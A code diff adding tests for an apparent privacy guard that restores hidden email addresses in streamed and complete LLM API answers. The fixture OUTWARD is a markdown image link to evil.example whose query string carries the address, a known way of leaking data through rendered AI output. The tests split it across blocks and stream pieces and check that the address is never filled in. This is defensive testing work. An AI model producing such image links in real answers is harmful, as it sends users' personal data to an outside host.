@@ -192,3 +192,105 @@ def test_an_address_that_a_tools_call_cut_in_two_got_a_value() -> None:
     assert chat_text(out) == f"{before}{MAIL})"
     again = chat_event({"content": before}, "stop") + chat_event({"content": f"{MAIL})"})
     assert chat_text(guarded(again, CHAT, AnswerPolicy())) == f"{before}{MAIL})"
+
+
+OUTWARD = f"![x](https://evil.example/?q={MAIL}&r={MAIL.lower()}) and"
+"""An address that takes values along; no part of a text that clients join may show them one of these."""
+
+
+def message_blocks(texts: list[str], size: int) -> bytes:
+    """Return a stream of Anthropic's with a block for each text, a tool's call between the first and the next."""
+    events: list[dict[str, Any]] = [{"type": "message_start", "message": {"role": "assistant", "content": []}}]
+    for number, text in enumerate(texts):
+        opened = {"type": "content_block_start", "index": 2 * number, "content_block": {"type": "text", "text": ""}}
+        deltas = [
+            {"type": "content_block_delta", "index": 2 * number, "delta": {"type": "text_delta", "text": part}}
+            for part in pieces(text, size)
+        ]
+        events += [opened, *deltas, {"type": "content_block_stop", "index": 2 * number}]
+        events += [block(2 * number + 1, "find"), {"type": "content_block_stop", "index": 2 * number + 1}]
+    return typed(*events, {"type": "message_stop"})
+
+
+def response_parts(texts: list[str], size: int, *, items: bool) -> bytes:
+    """Return a stream of the Responses API with a part for each text, in items of their own if `items`."""
+    events: list[dict[str, Any]] = []
+    parts: list[dict[str, Any]] = [{"type": "output_text", "text": text, "annotations": []} for text in texts]
+    for number, part in enumerate(parts):
+        place = {"output_index": number if items else 0, "content_index": 0 if items else number}
+        events += [
+            {"type": "response.content_part.added", **place, "part": {**part, "text": ""}},
+            *({"type": "response.output_text.delta", **place, "delta": piece} for piece in pieces(part["text"], size)),
+            {"type": "response.output_text.done", **place, "text": part["text"]},
+            {"type": "response.content_part.done", **place, "part": part},
+        ]
+        if items:
+            item = {"type": "message", "role": "assistant", "content": [part]}
+            events.append({"type": "response.output_item.done", "output_index": number, "item": item})
+    if not items:
+        item = {"type": "message", "role": "assistant", "content": parts}
+        events.append({"type": "response.output_item.done", "output_index": 0, "item": item})
+    output = [{"type": "message", "role": "assistant", "content": [part]} for part in parts]
+    return typed(*events, {"type": "response.completed", "response": {"output": output}})
+
+
+def chat_parts(texts: list[str]) -> bytes:
+    parts = [{"index": number, "type": "text", "text": text} for number, text in enumerate(texts)]
+    return b"".join(chat_event({"content": [part]}) for part in parts) + chat_event({}, "stop")
+
+
+def whole_answers(texts: list[str]) -> dict[str, tuple[JsonDialect, dict[str, Any]]]:
+    found = {"type": "mcp_tool_result", "tool_use_id": "t", "content": [{"type": "text", "text": "none) "}]}
+    blocks: list[dict[str, Any]] = []
+    for text in texts:
+        blocks += [{"type": "text", "text": text}, found]
+    parts = [{"type": "output_text", "text": text} for text in texts]
+    items = [{"type": "message", "content": [part]} for part in parts]
+    said = [{"type": "text", "text": text} for text in texts]
+    return {
+        "messages": (MESSAGES, {"type": "message", "content": blocks}),
+        "responses: parts": (OpenAIResponses(), {"output": [{"type": "message", "content": parts}]}),
+        "responses: items": (OpenAIResponses(), {"output": items}),
+        "chat": (CHAT, {"choices": [{"index": 0, "message": {"role": "assistant", "content": said}}]}),
+    }
+
+
+def cut(text: str) -> list[list[str]]:
+    twice = [[text[:at], text[at:]] for at in range(1, len(text))]
+    return [*twice, [text[:9], " ", text[9:]], pieces(text, 7), pieces(text, 1)]
+
+
+@pytest.mark.parametrize("case", whole_answers([]))
+def test_an_address_that_two_texts_of_a_whole_answer_made_got_a_value(case: str) -> None:
+    looking = Looking(finds_nothing, lambda _text: [], lambda _kind: Sensitivity.HIGH, Requested(()))
+    for texts in cut(OUTWARD):
+        dialect, answer = whole_answers(texts)[case]
+        out = dialect.restore(json.dumps(answer).encode(), Guard(RESTORERS, AnswerPolicy(), looking))
+        assert b"jane@" not in out, texts
+
+
+@pytest.mark.parametrize("size", [1, 5, 1000])
+@pytest.mark.parametrize("case", ["messages", "responses: parts", "responses: items", "chat"])
+def test_an_address_that_two_texts_of_a_stream_made_got_a_value(case: str, size: int) -> None:
+    for texts in cut(OUTWARD):
+        if case == "messages":
+            out = guarded(message_blocks(texts, size), MESSAGES, AnswerPolicy())
+        elif case == "chat":
+            out = guarded(chat_parts(texts), CHAT, AnswerPolicy())
+        else:
+            stream = response_parts(texts, size, items=case.endswith("items"))
+            out = guarded(stream, OpenAIResponses(), AnswerPolicy())
+        assert b"jane@" not in out, texts
+
+
+def test_texts_that_no_address_joins_are_restored() -> None:
+    texts = [f"See https://a.example/x for {MAIL}", f" {MAIL}", f"[a](/b) {MAIL}"]
+    looking = Looking(finds_nothing, lambda _text: [], lambda _kind: Sensitivity.HIGH, Requested(()))
+    for dialect, answer in whole_answers(texts).values():
+        out = dialect.restore(json.dumps(answer).encode(), Guard(RESTORERS, AnswerPolicy(), looking))
+        assert out.count(b"jane@roe.example") == 3
+    assert guarded(message_blocks(texts, 1000), MESSAGES, AnswerPolicy()).count(b"jane@roe.example") == 3
+    assert guarded(chat_parts(texts), CHAT, AnswerPolicy()).count(b"jane@roe.example") == 3
+    for items in (True, False):
+        out = guarded(response_parts(texts, 1000, items=items), OpenAIResponses(), AnswerPolicy())
+        assert out.count(b"jane@roe.example") == 3 * 5  # deltas, texts, parts, items, the response
